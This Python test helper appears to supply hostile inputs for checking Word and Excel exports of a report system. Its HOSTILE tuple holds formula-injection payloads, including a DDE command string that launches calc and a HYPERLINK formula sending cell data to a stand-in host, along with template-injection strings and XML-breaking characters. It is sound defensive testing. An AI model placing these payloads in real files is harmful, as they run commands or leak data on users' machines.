"""What tests of Word and Excel files share: texts that do harm elsewhere, a document of them, the inside of a file."""

import io
import re
from zipfile import ZipFile

from reports.documents import Cell, Document, Line, RowGroup
from tests.reports.formats import samples

HOSTILE = (
    '=HYPERLINK("http://a.example/?"&A1,"ดู")',
    "=cmd|' /C calc'!A0",
    "+66-2-123",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "ก\tข",
    "<w:p>&amp;</w:t> {{ 7*7 }} ${x} %s",
    "_x0041_ \u0000\u0007\u000b\u001f\ufffe\ud800 จบ",
    "น้ำ ทำ กำ ปู่ฟื้น ฐู ฎุ ๆ ฯลฯ ฿ 😀👩‍👩‍👧 𠀀",
    "'ขึ้นต้นด้วยขีด",
    "http://a.example/1 2?x=<y>",
)
WHOLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")  # XML knows no such letters


def kept(text: str) -> str:
    """Return what an office file keeps of a text: all but the letters that XML does not know."""
    return WHOLE.sub("", text)


def hostile_document() -> Document:
    """Return a document that says each hostile text everywhere, and one cell of 300 lines."""
    said = tuple(Line(text, marker="๑." if at % 2 else "") for at, text in enumerate(HOSTILE))
    rows = [(Cell((line,), 0, is_title=True), Cell(said, 1), Cell((line, line), 2)) for line in said]
    long = tuple(Line(f"บรรทัดที่ {at} {samples.STEP}") for at in range(300))
    rows.append((Cell(samples.lines("ยาว"), 0), Cell(long, 1), Cell((), 2)))
    header = samples.flat_header((HOSTILE[0], HOSTILE[7], HOSTILE[3]))
    groups = [RowGroup(heading=HOSTILE[2]), *(RowGroup(rows=(row,)) for row in rows)]
    table = samples.Table(header, (20.0, 50.0, 30.0), tuple(groups), HOSTILE[6])
    memo = samples.memo(subject=said, office=HOSTILE[7], addressee=HOSTILE[1])
    return samples.document((samples.Heading(said), samples.Text(said), table), memos=[memo])


def parts_of(data: bytes) -> dict[str, bytes]:
    """Return the files inside an office file by name."""
    with ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def dates_of(data: bytes) -> set[tuple[int, ...]]:
    """Return the dates that the zip says of its files."""
    with ZipFile(io.BytesIO(data)) as package:
        return {entry.date_time for entry in package.infolist()}
